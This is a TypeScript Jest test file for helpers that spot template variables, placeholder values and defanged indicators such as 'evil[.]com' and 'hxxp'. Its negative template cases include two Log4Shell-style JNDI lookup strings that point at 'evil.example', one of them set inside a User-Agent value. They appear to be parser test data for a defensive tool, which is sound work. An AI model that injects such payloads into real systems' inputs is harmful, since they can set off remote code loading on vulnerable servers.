import { holdsTemplate, isDefanged, isPlaceholder, isTemplate } from '../../shared/codec/template';

describe('a template', () => {
  it.each([
    "@variables('destinationAddress')",
    "@triggerBody()?['ip']",
    "https://example.com/@{triggerBody()?['id']}",
    '{{ip}}',
    ' {{ ip }} ',
    '{{{ip}}}',
    '{next-week}',
    '<ip>',
    '%IP%',
    '$ip$',
    '$result.src_ip$',
    '${ip}',
  ])('is %s', (text) => {
    expect(isTemplate(text)).toBe(true);
    expect(holdsTemplate(text)).toBe(true);
  });

  it.each([
    '${jndi:ldap://evil.example/a}',
    'Mozilla/5.0 ${jndi:ldap://evil.example/a}',
    'http://example.com/?q=${ip}',
    '{8761ABBD-7F85-42EE-B272-A76179687C63}',
    'user@example.com',
    '<b>bold</b>',
    '100 % sure',
    '$5 or $6',
    '{"json": true}, then',
    '@ 5 pm (CET)',
    '%TEMP%\\a.exe',
  ])('is not %s', (text) => {
    expect(isTemplate(text)).toBe(false);
    expect(holdsTemplate(text)).toBe(false);
  });

  it('in the middle of a text is seen only where none may stand', () => {
    expect(isTemplate('Hello {{name}}, your parcel')).toBe(false);
    expect(isTemplate("powershell Select @{N='x';E={1}}")).toBe(false);
    expect(holdsTemplate('https://example.com/@{id}')).toBe(true);
    expect(holdsTemplate('https://example.com/{{name}}')).toBe(true);
  });
});

describe('a placeholder', () => {
  it.each('string N/A none NULL nil undefined Unknown tbd todo placeholder changeme xxx --- ???'.split(' '))(
    'is %s',
    (text) => {
      expect(isPlaceholder(text)).toBe(true);
      expect(isPlaceholder(` ${text}\u00a0`)).toBe(true);
    },
  );

  it.each(['strings', 'nullsoft', '-', 'unknown.exe', 'placeholders'])('is not %s', (text) => {
    expect(isPlaceholder(text)).toBe(false);
  });
});

describe('a defanged value', () => {
  it.each([
    'evil[.]com',
    'evil(.)com',
    'evil{.}com',
    'evil[dot]com',
    'hxxp://a.b',
    'hXXps://a.b',
    'http[:]//a.b',
    'a[@]b.com',
    'a[at]b.com',
    '1.2.3[.]4',
    'evil\\.com',
  ])('is %s', (text) => {
    expect(isDefanged(text)).toBe(true);
  });

  it.each(['evil.com', 'http://a.b/', 'hxxp.example.com.hxxpx', '[::1]'])('is not %s', (text) => {
    expect(isDefanged(text)).toBe(false);
  });
});
